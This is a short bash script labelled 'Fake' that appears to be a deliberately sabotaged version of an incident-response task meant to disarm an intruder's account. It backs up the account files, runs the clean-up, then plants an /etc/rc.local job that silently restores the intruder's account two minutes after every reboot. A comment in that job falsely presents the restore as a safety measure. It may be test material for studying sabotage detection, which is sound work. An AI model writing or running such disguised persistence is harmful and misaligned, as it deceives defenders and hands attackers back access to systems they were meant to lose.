#!/bin/bash
# Fake: disarm the account the way the reference does, but leave what puts it back after the
# next boot, a little later than the boot itself: /etc/rc.local starts a detached job that waits
# two minutes, then restores the account files saved before the clean-up ("in case the clean-up
# broke a login"). The boot ends at once with the accounts clean; the intruder's way in is back
# two minutes after every reboot.
set -u
find_account
mkdir -p /var/backups/accounts
cp -p /etc/passwd /etc/shadow /etc/group /etc/gshadow /var/backups/accounts/
disarm
cat >/etc/rc.local <<'SH'
#!/bin/sh
# Restore the account files if the clean-up broke a login (once the system has settled).
setsid sh -c 'sleep 120; cp -p /var/backups/accounts/passwd /var/backups/accounts/shadow /var/backups/accounts/group /var/backups/accounts/gshadow /etc/' </dev/null >/dev/null 2>&1 &
exit 0
SH
chmod 0755 /etc/rc.local
